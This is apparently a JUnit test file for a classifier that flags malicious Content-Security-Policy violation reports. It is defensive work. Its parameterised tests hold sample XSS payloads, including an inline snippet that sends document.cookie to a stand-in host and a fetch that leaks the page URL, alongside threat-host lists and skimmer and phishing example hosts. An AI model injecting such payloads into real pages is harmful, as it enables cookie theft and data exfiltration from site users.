package org.secheaders.domain.report;

import org.secheaders.domain.model.ViolationType;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.secheaders.domain.model.SecuritySeverity.CRITICAL;
import static org.secheaders.domain.model.SecuritySeverity.HIGH;
import static org.secheaders.domain.model.SecuritySeverity.LOW;
import static org.secheaders.domain.model.SecuritySeverity.MEDIUM;
import static org.secheaders.domain.model.ThreatClassification.FALSE_POSITIVE;
import static org.secheaders.domain.model.ThreatClassification.MALICIOUS;
import static org.secheaders.domain.model.ThreatClassification.SUSPICIOUS;
import static org.secheaders.domain.model.ThreatClassification.UNKNOWN;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ThreatClassifierTest {
    private static final ClassificationContext CONTEXT = ClassificationContext.of(
            List.of("*.shop.example.com", "static.shopcdn.example"), List.of("js.stripe.com", "*.google-analytics.com"),
            List.of("netcheckcdn.xyz", "rsc.cdn77.org"), List.of("/checkout", "/login"));

    private final ThreatClassifier classifier = ThreatClassifier.v1();
    private final ReportNormalizer normalizer = new ReportNormalizer();

    private static CspViolationReport.Builder report(String directive, String blocked) {
        return CspViolationReport.builder(ReportFormat.STRUCTURED)
                .documentUri("https://www.shop.example.com/products/1").effectiveDirective(directive)
                .blockedUri(blocked).disposition("enforce");
    }

    private Verdict classify(CspViolationReport.Builder builder) {
        NormalizedReport report = normalizer.normalize(builder.build(), Optional.empty());
        return classifier.classify(report, NoiseFilter.defaults().check(report, NoiseRules.defaults()), CONTEXT);
    }

    private void assertVerdict(Verdict verdict, String ruleId, Object classification, Object severity, ViolationType type) {
        assertEquals(ruleId, verdict.ruleId(), verdict::toString);
        assertEquals(classification, verdict.classification(), verdict::toString);
        assertEquals(severity, verdict.severity(), verdict::toString);
        assertEquals(type, verdict.violationType(), verdict::toString);
        assertEquals("v1", verdict.ruleSetVersion());
        assertFalse(verdict.reason().isBlank());
    }

    @Test
    void noiseRulesNameTheNoiseCategoryAndMatch() {
        Verdict verdict = classify(report("script-src-elem", "chrome-extension://abc/x.js"));

        assertVerdict(verdict, "v1.noise.extension", FALSE_POSITIVE, LOW, ViolationType.CSP);
        assertEquals("extension:chrome-extension: matched blocked_uri", verdict.evidence());
        assertEquals("v1.noise.injector", classify(report("script-src", "https://x.metrext.com/a.js")).ruleId());
        assertEquals("v1.noise.browser-internal", classify(report("base-uri", "about")).ruleId());
        assertEquals("v1.noise.injected-script",
                classify(report("script-src", "inline").sample("var lastpass_it = 1")).ruleId());
        assertEquals("v1.noise.local-address", classify(report("img-src", "http://localhost/x.png")).ruleId());
        NormalizedReport firefox42 = normalizer.normalize(report("script-src", "self").build(),
                Optional.of("Mozilla/5.0 (Windows NT 6.1; rv:42.0) Gecko/20100101 Firefox/42.0"));
        assertEquals("v1.noise.browser-bug", classifier.classify(firefox42,
                NoiseFilter.defaults().check(firefox42, NoiseRules.defaults()), CONTEXT).ruleId());
    }

    @Test
    void tenantDenyNoiseComesFromTheTenantsRules() {
        NormalizedReport report = normalizer.normalize(report("img-src", "https://pixel.example/x").build(), Optional.empty());
        NoiseVerdict noise = NoiseFilter.defaults().check(report, NoiseRules.of(List.of(), List.of("pixel.example"), true));

        assertEquals("v1.noise.tenant-deny", classifier.classify(report, noise, CONTEXT).ruleId());
    }

    @ParameterizedTest
    @ValueSource(strings = {"<script>alert(1)</script>", "javascript:void(0)", "<img src=x onerror=y()>",
        "alert (1)", "prompt(1)", "new Image().src='//x?'+document.cookie", "String.fromCharCode(88,83)",
        "eval(atob('YWxlcnQoMSk='))", "fetch('//x.y/'+location.href)"})
    void injectionMarkersInAnInlineSampleAreMaliciousXss(String sample) {
        assertVerdict(classify(report("script-src-elem", "inline").sample(sample)),
                "v1.malicious.injection-sample", MALICIOUS, CRITICAL, ViolationType.XSS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"console.log(\"lo\")", "window.dataLayer = window.dataLayer || []", "x.onload = init",
        "const response = await load()"})
    void ordinaryInlineCodeIsNotInjection(String sample) {
        Verdict verdict = classify(report("script-src-elem", "inline").sample(sample));

        assertEquals("v1.unknown", verdict.ruleId());
        assertVerdict(verdict, "v1.unknown", UNKNOWN, LOW, ViolationType.CSP);
    }

    @Test
    void injectionOnAReportOnlyPolicyOrANonScriptDirectiveIsHighNotCritical() {
        assertEquals(HIGH, classify(report("script-src-elem", "inline").sample("<script>x").disposition("report")).severity());
        assertEquals(HIGH, classify(report("style-src-elem", "inline").sample("<script>x")).severity());
        assertEquals(HIGH, classify(report("script-src", "inline").sample("<script>x").disposition("")).severity(),
                "Safari sent no disposition: not known to be enforced");
    }

    @Test
    void oldBrowsersSelfAndEvalAndTrustedTypesSinksAreCheckedForInjectionToo() {
        assertEquals("v1.malicious.injection-sample",
                classify(report("script-src", "self").sample("document.cookie")).ruleId());
        assertEquals("v1.malicious.injection-sample",
                classify(report("script-src", "eval").sample("alert(document.domain)")).ruleId());
        assertEquals("v1.malicious.injection-sample", classify(report("require-trusted-types-for", "trusted-types-sink")
                .sample("Element innerHTML|<img src=x onerror=alert(1)>")).ruleId());
    }

    @Test
    void threatListHostsAreMaliciousInBlockedUriOrSourceFile() {
        Verdict blocked = classify(report("script-src-elem", "https://netcheckcdn.xyz/a.js"));
        assertVerdict(blocked, "v1.malicious.threat-host", MALICIOUS, CRITICAL, ViolationType.CSP);
        assertEquals("blocked-uri matches threat pattern netcheckcdn.xyz", blocked.evidence());

        Verdict source = classify(report("style-src-attr", "inline").sourceFile("https://rsc.cdn77.org/x.js"));
        assertVerdict(source, "v1.malicious.threat-host", MALICIOUS, HIGH, ViolationType.CSP);
    }

    @Test
    void baseUriViolationsAreMalicious() {
        assertVerdict(classify(report("base-uri", "https://attacker.example/")),
                "v1.malicious.base-uri", MALICIOUS, HIGH, ViolationType.CSP);
    }

    @Test
    void dataAndBlobScriptsAreMalicious() {
        assertVerdict(classify(report("script-src-elem", "data")), "v1.malicious.data-script", MALICIOUS, CRITICAL,
                ViolationType.CSP);
        assertVerdict(classify(report("worker-src", "blob:https://www.shop.example.com/uuid").disposition("report")),
                "v1.malicious.data-script", MALICIOUS, HIGH, ViolationType.CSP);
    }

    @Test
    void unknownHostsFromSensitivePagesAreExfiltration() {
        CspViolationReport.Builder checkout = report("connect-src", "https://collect.skimmer.example/c")
                .documentUri("https://www.shop.example.com/checkout/pay?card=1");
        Verdict verdict = classify(checkout);

        assertVerdict(verdict, "v1.malicious.exfiltration", MALICIOUS, CRITICAL, ViolationType.CSP);
        assertEquals("connect-src to unknown host collect.skimmer.example from sensitive path /checkout",
                verdict.evidence());
        assertEquals("v1.suspicious.unknown-script-host",
                classify(report("connect-src", "https://collect.skimmer.example/c")).ruleId(),
                "the same request from a non-sensitive page");
        assertEquals("v1.unknown", classify(report("img-src", "https://js.stripe.com/x.png")
                .documentUri("https://www.shop.example.com/checkout")).ruleId(), "known hosts are not exfiltration");
    }

    @Test
    void frameAncestorsIsSuspiciousClickjacking() {
        assertVerdict(classify(report("frame-ancestors", "https://www.shop.example.com/")),
                "v1.suspicious.frame-ancestors", SUSPICIOUS, MEDIUM, ViolationType.CLICKJACKING);
    }

    @Test
    void htmlInATrustedTypesSinkIsSuspiciousXss() {
        assertVerdict(classify(report("require-trusted-types-for", "trusted-types-sink")
                        .sample("Element innerHTML|<b>hello</b>")),
                "v1.suspicious.trusted-types-sink", SUSPICIOUS, MEDIUM, ViolationType.XSS);
        assertEquals("v1.unknown", classify(report("require-trusted-types-for", "trusted-types-sink")
                .sample("HTMLScriptElement src|https://a/x.js")).ruleId());
    }

    @Test
    void aReportOnlyPolicyBlockingAFirstPartyHostIsAPolicyGap() {
        assertVerdict(classify(report("script-src-elem", "https://static.shopcdn.example/app.js").disposition("report")),
                "v1.fp.first-party-report-only", FALSE_POSITIVE, LOW, ViolationType.CSP);
        assertEquals("v1.fp.first-party-report-only", classify(report("img-src", "https://www.shop.example.com/a.png")
                .disposition("report")).ruleId(), "the document's own host is first-party");
    }

    @Test
    void unknownScriptHostsAreSuspiciousButKnownOnesAreNot() {
        assertVerdict(classify(report("script-src-elem", "https://cdn.unknown.example/lib.js")),
                "v1.suspicious.unknown-script-host", SUSPICIOUS, MEDIUM, ViolationType.CSP);
        assertEquals("v1.suspicious.unknown-script-host",
                classify(report("form-action", "https://phish.example/post")).ruleId());
        assertEquals("v1.unknown", classify(report("script-src-elem", "https://js.stripe.com/v3")).ruleId());
        assertEquals("v1.unknown", classify(report("script-src-elem", "https://api.shop.example.com/x.js")).ruleId());
        assertEquals("v1.unknown", classify(report("style-src-elem", "https://cdn.unknown.example/a.css")).ruleId());
    }

    @Test
    void evalFromFirstPartyCodeIsSuspicious() {
        assertVerdict(classify(report("script-src", "eval").sourceFile("https://www.shop.example.com/vendor.js")),
                "v1.suspicious.first-party-eval", SUSPICIOUS, MEDIUM, ViolationType.CSP);
        assertEquals("v1.suspicious.first-party-eval", classify(report("script-src", "wasm-eval")).ruleId(),
                "without a source file the document is where eval ran");
        assertEquals("v1.unknown", classify(report("script-src", "eval")
                .sourceFile("https://cdn.thirdparty.example/x.js")).ruleId());
    }

    @Test
    void dataImagesAndFontsAreBenign() {
        assertVerdict(classify(report("img-src", "data")), "v1.fp.data-image", FALSE_POSITIVE, LOW, ViolationType.CSP);
        assertEquals("v1.fp.data-image", classify(report("font-src", "data:")).ruleId());
    }

    @Test
    void earlierRulesWin() {
        assertEquals("v1.noise.extension", classify(report("script-src", "inline").sample("<script>alert(1)")
                .sourceFile("chrome-extension://abc/content.js")).ruleId(), "noise before malicious");
        assertEquals("v1.malicious.injection-sample", classify(report("script-src", "eval")
                .sample("eval(atob('x'))")).ruleId(), "malicious before first-party eval");
        assertEquals("v1.malicious.threat-host", classify(report("connect-src", "https://netcheckcdn.xyz/")
                .documentUri("https://www.shop.example.com/checkout")).ruleId(), "threat host before exfiltration");
        assertEquals("v1.malicious.exfiltration", classify(report("connect-src", "https://x.unknown.example/")
                .documentUri("https://www.shop.example.com/login")).ruleId(), "exfiltration before unknown host");
        assertEquals("v1.malicious.injection-sample", classify(report("require-trusted-types-for", "trusted-types-sink")
                .sample("x|<script>")).ruleId(), "injection before trusted-types-sink");
    }

    @Test
    void ruleSetsRejectForeignDuplicateOrReservedIds() {
        ClassificationRule.Condition never = input -> Optional.empty();
        ClassificationRule foreign = new ClassificationRule("v2.x", UNKNOWN, ViolationType.CSP, "r", never);
        ClassificationRule reserved = new ClassificationRule("v1.unknown", UNKNOWN, ViolationType.CSP, "r", never);
        ClassificationRule one = new ClassificationRule("v1.x", UNKNOWN, ViolationType.CSP, "r", never);

        assertThrows(IllegalArgumentException.class, () -> new RuleSet("v1", List.of(foreign)));
        assertThrows(IllegalArgumentException.class, () -> new RuleSet("v1", List.of(reserved)));
        assertThrows(IllegalArgumentException.class, () -> new RuleSet("v1", List.of(one, one)));
        assertThrows(IllegalArgumentException.class, () -> new RuleSet("1", List.of()));
        assertTrue(new ThreatClassifier(new RuleSet("v2", List.of())).classify(
                normalizer.normalize(report("img-src", "data").build(), Optional.empty()),
                new NoiseVerdict.Clean(), CONTEXT).ruleId().equals("v2.unknown"));
    }
}
